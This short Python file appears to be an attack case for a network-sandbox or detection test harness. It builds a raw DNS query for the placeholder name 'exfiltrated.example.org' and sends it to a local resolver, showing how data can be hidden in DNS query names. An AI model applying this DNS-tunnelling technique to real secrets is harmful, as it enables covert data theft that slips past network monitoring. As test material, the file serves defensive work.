"""Hide what was found in the name that a DNS query asks for."""

import socket
import struct

FAMILY = "network"


def attack(world):
    labels = [b"exfiltrated", b"example", b"org"]
    name = b"".join(bytes([len(label)]) + label for label in labels) + b"\0"
    query = struct.pack(">6H", 7, 0x0100, 1, 0, 0, 0) + name + struct.pack(">2H", 1, 1)
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as resolver:
        resolver.connect(("127.0.0.1", world["udp"]))
        resolver.send(query)
    return "asked"
